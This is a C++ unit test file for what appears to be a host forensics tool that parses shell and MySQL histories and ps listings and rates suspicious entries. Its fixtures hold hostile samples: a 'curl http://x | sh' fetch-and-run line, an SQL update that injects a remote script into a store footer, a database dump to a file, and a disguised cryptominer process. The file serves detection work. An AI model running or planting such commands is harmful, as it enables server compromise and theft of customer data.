#include <gtest/gtest.h>

#include "host/host.h"

namespace tq::host {
namespace {

TEST(History, BashZshAndFishTimes) {
  History b = ParseShellHistory("ls\n#1741255200\ncurl http://x | sh\n", 100);
  ASSERT_EQ(b.commands.size(), 2u);
  EXPECT_FALSE(b.commands[0].time);
  ASSERT_TRUE(b.commands[1].time);
  EXPECT_EQ(*b.commands[1].time, int64_t{1741255200} * 1000000);
  EXPECT_EQ(b.commands[1].line, 3u);
  History z = ParseShellHistory(": 1741255200:0;echo a \\\nb\n: 1741255201:3;whoami\n", 100);
  ASSERT_EQ(z.commands.size(), 2u);
  EXPECT_EQ(z.commands[0].command, "echo a \nb");
  EXPECT_EQ(*z.commands[1].time, int64_t{1741255201} * 1000000);
  History f = ParseShellHistory("- cmd: id\n  when: 1741255200\n- cmd: uname -a\n", 100);
  ASSERT_EQ(f.commands.size(), 2u);
  EXPECT_EQ(f.commands[0].command, "id");
  ASSERT_TRUE(f.commands[0].time);
}

TEST(History, HugeHistoriesAreBounded) {
  std::string big;
  for (int i = 0; i < 5000; ++i) big += "echo " + std::to_string(i) + "\n";
  History h = ParseShellHistory(big, 1000);
  EXPECT_TRUE(h.truncated);
  EXPECT_EQ(h.commands.size(), 1000u);
  std::string line(1 << 20, 'a');
  History l = ParseShellHistory(line, 10);
  ASSERT_EQ(l.commands.size(), 1u);
  EXPECT_LE(l.commands[0].command.size(), 64u * 1024);
  History odd = ParseShellHistory("#notatime\n#99999999999999999999\n: x;y\n\xff\n\\", 10);
  EXPECT_EQ(odd.commands.size(), 4u);  // the lone "\\" continues into nothing
}

TEST(History, MysqlStatements) {
  History m = ParseMysqlHistory(
      "select\\040*\\040from\\040customer_entity;\nSELECT\\040count(*)\\040FROM\\040admin_user;\n",
      10);
  ASSERT_EQ(m.commands.size(), 2u);
  EXPECT_EQ(m.commands[0].command, "select * from customer_entity;");
  EXPECT_EQ(AnalyzeSqlStatement(m.commands[0].command).technique, "db_read");
  EXPECT_TRUE(AnalyzeSqlStatement(m.commands[1].command).reasons.empty());
  EXPECT_EQ(AnalyzeSqlStatement("UPDATE core_config_data SET value='<script src=//x.example/a.js>"
                                "</script>' WHERE path='design/footer/absolute_footer'")
                .severity,
            Severity::kCritical);
  EXPECT_EQ(AnalyzeSqlStatement("select * from sales_order into outfile '/tmp/o.csv'").technique,
            "db_dump");
}

TEST(History, PsListings) {
  auto aux = ParsePsOutput(
      "USER  PID %CPU %MEM VSZ RSS TTY STAT START TIME COMMAND\n"
      "www-data 812 0.0 0.1 1 1 ? S 10:00 0:00 php-fpm: pool www\n"
      "www-data 999 90.0 1.0 1 1 ? Sl 10:01 9:00 /dev/shm/.x/kswapd0 -o pool.example:3333\n"
      "root 1001 0.0 0.0 1 1 ? S 10:02 0:00 /usr/sbin/sshd -D\n"
      "www-data 1002 0.0 0.0 1 1 ? S 10:02 0:00 /tmp/php (deleted)\n");
  ASSERT_EQ(aux.size(), 4u);
  EXPECT_EQ(aux[1].pid, "999");
  EXPECT_EQ(aux[1].command, "/dev/shm/.x/kswapd0 -o pool.example:3333");
  EXPECT_TRUE(AnalyzeProcess(aux[0]).reasons.empty());
  EXPECT_EQ(AnalyzeProcess(aux[1]).severity, Severity::kHigh);
  EXPECT_TRUE(AnalyzeProcess(aux[2]).reasons.empty());
  EXPECT_EQ(AnalyzeProcess(aux[3]).severity, Severity::kHigh);
  auto ef = ParsePsOutput(
      "UID PID PPID C STIME TTY TIME CMD\nroot 1 0 0 09:00 ? 00:00:01 "
      "/sbin/init splash\n");
  ASSERT_EQ(ef.size(), 1u);
  EXPECT_EQ(ef[0].command, "/sbin/init splash");
  EXPECT_TRUE(ParsePsOutput("no header here\n1 2 3\n").empty());
}

}  // namespace
}  // namespace tq::host
